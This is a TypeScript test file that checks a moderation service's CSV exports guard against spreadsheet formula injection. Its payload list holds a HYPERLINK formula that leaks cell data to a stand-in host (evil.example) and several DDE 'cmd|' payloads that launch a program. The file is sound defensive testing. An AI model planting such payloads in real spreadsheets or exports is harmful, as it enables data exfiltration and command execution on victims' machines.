/**
 * Every CSV Vigil writes, run over cells a spreadsheet would execute: a bulk job's results
 * (GET /v1/jobs/{id}/results?format=csv), the audit log (GET /api/v1/reviews/audit/export), the
 * decided items (GET /api/v1/policy/export) and the console's batch export. Each must hand the text
 * back with a leading `'`, never as a formula, in a data cell and in a column name alike.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { AuditEntry } from '@/lib/contracts/reviews';
import { exportBatchCsv } from '@/lib/batch/export-batch';
import { resultsCsvHeader, resultsCsvRows } from '@/lib/jobs/results-csv';
import { DECISIONS_CSV_HEADER, decisionsCsvRows } from '@/lib/policy/decisions-csv';
import { AUDIT_CSV_HEADER, auditCsvRows, auditToCsv } from '@/lib/reviews/audit-csv';

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
];

const FORMULA_START = /^[=+\-@\t\r]/;
const NEGATIVE_NUMBER = /^-\d+(?:\.\d+)?$/;

/** Every cell of the file, header included, as a spreadsheet or script reads it. */
const cellsOf = (csv: string): string[] => (parse(csv, { relax_column_count: true }) as string[][]).flat();

function expectGuarded(csv: string, name: string) {
  const cells = cellsOf(csv);
  const live = cells.filter((c) => FORMULA_START.test(c) && !NEGATIVE_NUMBER.test(c));
  expect(live, `${name}: cells a spreadsheet would run`).toEqual([]);
  for (const d of DANGEROUS) expect(cells, `${name}: ${JSON.stringify(d)} kept, behind a quote`).toContain(`'${d}`);
}

const entry = (text: string, i: number): AuditEntry => ({
  decision_id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
  review_id: '00000000-0000-4000-8000-000000000001',
  action: 'decided',
  decision: 'confirm',
  moderator: text,
  reason_code: '',
  note: text,
  text,
  client_decision_id: null,
  summary: 'likely_harmful',
  primary_issue: 'insult',
  severity: 'high',
  score: 0.9,
  decided_at: '2026-11-26T08:00:00.000Z',
});

describe('every CSV export guards cells a spreadsheet would run as a formula', () => {
  it("a bulk job's results: the input's cells, its column names and the per-line error", () => {
    const columns = ['text', ...DANGEROUS];
    const rows = DANGEROUS.map((d, i) => ({
      line: i + 2,
      row: [d, ...DANGEROUS],
      result:
        i % 2 === 0
          ? { ensemble: { summary: 'likely_safe', primary_issue: 'none', score: 0.01, severity: 'low' } }
          : { error: { status: 422, detail: d } },
    }));
    expectGuarded(resultsCsvHeader(columns) + resultsCsvRows(columns, rows), 'job results');
  });

  it('the audit log: text, note and moderator', () => {
    const entries = DANGEROUS.map(entry);
    expectGuarded(auditToCsv(entries), 'audit export');
    expectGuarded(AUDIT_CSV_HEADER + auditCsvRows(entries), 'audit export, streamed');
  });

  it('the decided items: the moderated text', () => {
    const items = DANGEROUS.map((text, i) => ({
      review_id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
      text,
      decision: 'overturn' as const,
      primary_issue: 'insult',
      reason_code: '',
      decided_at: '2026-11-26T08:00:00.000Z',
    }));
    expectGuarded(DECISIONS_CSV_HEADER + decisionsCsvRows(items), 'decisions export');
  });

  it("the console's batch export: the source's cells, its column names and the row's error", () => {
    const columns = ['text', ...DANGEROUS];
    const rows = DANGEROUS.map((d, i) => ({ line: i + 2, cells: [d, ...DANGEROUS], text: d, error: d }));
    expectGuarded(exportBatchCsv(rows, columns), 'batch export');
  });

  it('leaves negative numbers as they were', () => {
    const csv =
      resultsCsvHeader(['n']) + resultsCsvRows(['n'], [{ line: 2, row: ['-5'], result: { error: { status: 422, detail: 'x' } } }]);
    expect(cellsOf(csv)).toContain('-5');
  });

  it('no other file under lib/ or app/ quotes CSV cells itself', () => {
    const root = path.resolve(__dirname, '../..');
    const writers: string[] = [];
    const walk = (dir: string) => {
      for (const e of readdirSync(dir, { withFileTypes: true })) {
        const p = path.join(dir, e.name);
        if (e.isDirectory()) walk(p);
        else if (/\.(ts|tsx|mjs)$/.test(e.name) && !/\.test\.ts$/.test(e.name) && readFileSync(p, 'utf8').includes(`'""'`)) {
          writers.push(path.relative(root, p));
        }
      }
    };
    walk(path.join(root, 'lib'));
    walk(path.join(root, 'app'));
    expect(writers).toEqual([path.join('lib', 'csv', 'write-csv.ts')]);
  });
});
